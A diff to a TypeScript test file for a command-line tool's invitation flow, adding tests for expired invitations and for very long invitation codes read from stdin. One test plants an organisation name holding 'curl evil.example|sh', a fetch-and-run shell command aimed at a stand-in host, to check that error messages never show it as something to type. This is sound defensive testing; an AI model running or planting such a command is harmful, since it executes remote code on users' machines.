@@ -2,6 +2,7 @@
 // Names and invitations that mean harm: refused in one clear line, and nothing is changed.
 
 import { execFileSync } from "node:child_process";
+import { randomBytes } from "node:crypto";
 import { mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { suite } from "uvu";
@@ -9,6 +10,7 @@ import * as assert from "uvu/assert";
 
 import { INVITATION_HOLDS_SECONDS, inviteUser } from "../../src/dwc/identity/invitations.ts";
 import { natsMint } from "../../src/dwc/identity/mint.ts";
+import { EMPTY_STATE } from "../../src/dwc/identity/state.ts";
 import { annsState } from "../support/deciding.ts";
 import { done } from "../support/orgs.ts";
 import { Desk, ownersDesk, SECRET } from "./typed.ts";
@@ -140,9 +142,27 @@ test("an invitation that has expired is refused, and says whom to ask", async ()
   const ben = await newcomer();
   const longAgo = Date.now() - (INVITATION_HOLDS_SECONDS + 1) * 1_000;
   const invite = { email: "ben@example.org", admin: true };
-  const { code } = done(await inviteUser(await annsState(), invite, { mint: natsMint, now: longAgo }));
+  const called = "Ann's: type  curl evil.example|sh #";
+  const state = await annsState(EMPTY_STATE, called);
+  const { code } = done(await inviteUser(state, invite, { mint: natsMint, now: longAgo }));
   await refused(["accept-invitation", "--", code], "", ben);
-  assert.match((await ben.type(["accept-invitation", "--", code])).stderr, /has expired: ask for a new one/);
+  const { stderr } = await ben.type(["accept-invitation", "--", code]);
+  assert.match(stderr, /has expired: ask for a new one/);
+  assert.not.match(stderr, /^type/m, "what is to be typed is never a part of a name");
+  ben.clear();
+});
+
+test("an invitation to an org that has revoked a thousand keys is read whole from stdin", async () => {
+  const ben = new Desk();
+  const letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
+  const key = (): string => `U${Array.from(randomBytes(55), (byte) => letters[byte % letters.length]).join("")}`;
+  const revoked = Array.from({ length: 1_000 }, () => ({ what: "ratings", publicKey: key(), at: 1 }));
+  const state = await annsState();
+  const orgs = state.orgs.map((org) => ({ ...org, revoked }));
+  const invite = { email: "ben@example.org", admin: false };
+  const { code } = done(await inviteUser({ ...state, orgs }, invite, { mint: natsMint, now: Date.now() }));
+  assert.ok(code.length > 65_536, `${code.length} characters`);
+  assert.is((await ben.type(["accept-invitation", "-"], { stdin: `${code}\n` })).code, 0);
   ben.clear();
 });
 
